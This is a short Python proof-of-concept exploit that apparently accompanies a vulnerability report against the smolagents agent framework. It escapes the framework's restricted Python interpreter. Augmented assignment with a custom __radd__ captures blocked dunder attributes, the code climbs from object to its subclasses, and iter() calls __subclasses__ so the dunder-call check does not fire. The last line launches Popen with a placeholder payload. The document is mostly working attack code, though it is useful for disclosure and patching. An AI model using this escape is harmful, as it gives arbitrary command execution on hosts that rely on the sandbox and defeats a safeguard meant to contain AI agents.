# Open report (CVE-2026-4963, smolagents PR #2281): augmented assignment reads an attribute without
# the dunder check; a user __radd__ captures what it read. object -> __subclasses__ -> Popen.
box = []
class Grab:
    def __radd__(self, other):
        box.append(other)
        return other
class Holder:
    pass
h = Holder()
def take(obj, which):
    h.x = obj
    try:
        if which == "class":
            h.x.__class__ += Grab()
        elif which == "base":
            h.x.__base__ += Grab()
        elif which == "subclasses":
            h.x.__subclasses__ += Grab()
    except Exception:
        pass
    return box[-1]
subclasses = take(take(take((), "class"), "base"), "subclasses")
# iter(callable, sentinel) calls it from C, past the check on calls of dunder functions
popen = [c for c in next(iter(subclasses, None)) if "Popen" in str(c)][0]
popen(PAYLOAD_ARGV).wait()
